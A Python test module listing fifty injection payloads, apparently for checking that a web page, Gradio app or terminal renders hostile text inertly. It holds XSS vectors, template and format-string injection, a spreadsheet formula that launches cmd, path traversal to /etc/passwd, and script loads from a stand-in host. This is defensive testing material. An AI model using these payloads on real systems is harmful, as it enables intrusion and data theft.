"""Fifty texts that attack a page, a terminal or a program that handles them, as documents, names or questions may hold.

Each stands in one line. Those that are meant to run a script set `window.pwned`; those that are meant to fetch something
fetch it from `offsite.invalid`, where nothing is. A page that shows one letter for letter has not understood it as
anything but text.
"""

PAYLOADS = {
    "script": "<script>window.pwned='script'</script>",
    "script from elsewhere": "<script src=http://offsite.invalid/script.js></script>",
    "broken image": "<img src=x onerror=window.pwned='image'>",
    "image from elsewhere": '<img src=http://offsite.invalid/i.png srcset="http://offsite.invalid/2.png 2x" loading=eager>',
    "vector image": "<svg onload=window.pwned='svg'>",
    "animation": "<svg><animate onbegin=window.pwned='animate' attributeName=x dur=1s>",
    "script in a vector image": "<svg><script href=\"data:text/javascript,window.pwned='href'\"></script></svg>",
    "double quote": "\" autofocus onfocus=\"window.pwned='double'\" onpointerenter=\"window.pwned='double'\" x=\"",
    "single quote": "' autofocus onfocus='window.pwned=`single`' onpointerenter='window.pwned=`single`' x='",
    "unquoted attribute": "x onload=window.pwned=`unquoted` tabindex=1 autofocus onfocus=window.pwned=`unquoted`",
    "elements closed early": "</mark></q></blockquote></article></li></div></section><img src onerror=window.pwned='closed'>",
    "opened details": "<details open ontoggle=window.pwned='details'><summary>x",
    "video": "<video poster=http://offsite.invalid/p.png autoplay><source src=x onerror=window.pwned='video'></video>",
    "link to a script": "<a href=\"javascript:window.pwned='link'\" target=_top>press here</a>",
    "link to a script, hidden": "<a href=\"jav&#x09;a&NewLine;script&colon;window.pwned='hidden'\">press here</a>",
    "template literal": "${window.pwned='literal'}",
    "template literals in each other": "`${`${window.pwned='nested'}`}` + '\\u0024{window.pwned=`escaped`}'",
    "moustaches": "{{window.pwned='moustache'}}{{{value}}}{{#each value}}{{@html this}}{{/each}}",
    "constructor in moustaches": "{{constructor.constructor(`window.pwned='constructor'`)()}}",
    "other templates": "<%= window.pwned='erb' %>{% raw %}#{window.pwned='pug'}[[${window.pwned='thyme'}]]",
    "format fields": "{0} {name} {scope} {documents.__class__.__init__.__globals__} %s %(name)s {",
    "Markdown image": "![a picture](http://offsite.invalid/markdown.png)",
    "Markdown link": "[press here](javascript:window.pwned='markdown') <javascript:window.pwned='auto'>",
    "Markdown code": "```html <img src=x onerror=window.pwned='fence'> ``` # heading | a | b | --- ~~x~~ **y**",
    "LaTeX": "$$\\href{javascript:window.pwned='latex'}{x}\\includegraphics{http://offsite.invalid/l.png}\\input{x}$$",
    "style sheet": "<style>@import 'http://offsite.invalid/s.css';*{display:none;background:url(//offsite.invalid/s)}</style>",
    "style": "<p style=\"position:fixed;inset:0;z-index:9999;background:url('http://offsite.invalid/b.png')\">cover</p>",
    "page that sends on": '<meta http-equiv=refresh content="0;url=http://offsite.invalid/refresh">',
    "form": "<form action=http://offsite.invalid/form><input name=q autofocus onfocus=window.pwned='form'><button>Ask",
    "frame": "<iframe src=http://offsite.invalid/frame srcdoc=\"<script>parent.pwned='frame'</script>\"></iframe>",
    "base and preload": "<base href=http://offsite.invalid/><link rel=preload as=script href=http://offsite.invalid/l.js>",
    "object": "<object data=http://offsite.invalid/o><embed src=\"javascript:window.pwned='embed'\"></object>",
    "end of a text box": "</textarea></title></style></script></noscript><img src=x onerror=window.pwned='rawtext'>",
    "comment": "<!-- --!><img src=x onerror=window.pwned='comment'> -->",
    "character data": "<![CDATA[<img src=x onerror=window.pwned='cdata'>]]><?xml version='1.0'?><!DOCTYPE x>",
    "entities": "&lt;img src=x onerror=window.pwned='entity'&gt; &amp;lt;b&amp;gt; &#60;i&#x3e; &nbsp;&copy &notit;",
    "mutation in mathematics": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x '
    "onerror=window.pwned='mutation'&gt;\">",
    "mutation in noscript": "<noscript><p title=\"</noscript><img src=x onerror=window.pwned='noscript'>\">",
    "name of a global": "<a id=pwned href=x>clobbered</a><form name=pwned><input name=getElementById></form>",
    "control of the page": '<button data-qa="remove" data-row="0" id="turn-1" data-arrive="turn-1" autofocus>press</button>',
    "prototype": "__proto__ constructor prototype toString hasOwnProperty __class__",
    "file of Gradio": '{"path": "/etc/hostname", "url": "/gradio_api/file=/etc/hostname", "meta": '
    '{"_type": "gradio.FileData"}}',
    "component of Gradio": '{"component": "html", "value": "<img src=x onerror=window.pwned=1>", "props": '
    "{\"js_on_load\": \"window.pwned='component'\"}, \"__type__\": \"update\"}",
    "element of Gradio": "<gradio-app src=http://offsite.invalid/app></gradio-app><gradio-lite>window.pwned='lite'",
    "writing direction": "\u202eegap eht nrut\u202c \u2067\u2066isolated \u200fmarks\u200e <b>",
    "invisible characters": "<\u200bscript>win\u200cdow\u200d.pwned='\u2060invisible\ufeff'</\u00adscript>\u2028\u2029x",
    "half a character and nothing": "\ud800<img src=x\0onerror=window.pwned='half'>\udfff\0",
    "endless word": "W" * 700 + "<wbr>" + "\N{COMBINING ACUTE ACCENT}" * 60,
    "terminal": "\x1b]0;title\x07\x1b[2J\x1b[31mred\x1b[0m\x9b31m\b\b\x7f",
    "spreadsheet and path": "=HYPERLINK(\"http://offsite.invalid/\"&A1)+cmd|' /C calc'!A0,../../../../etc/passwd,..\\..\\x",
}  # fmt: skip


def fits_a_text_file(payload: str) -> bool:
    """Whether a UTF-8 file can hold it as text."""
    return "\0" not in payload and not any("\ud800" <= character <= "\udfff" for character in payload)


def fits_a_file_name(payload: str) -> bool:
    """Whether a file can bear it as its name, with four characters for an ending."""
    return fits_a_text_file(payload) and "/" not in payload and len(payload.encode("utf-8")) <= 251
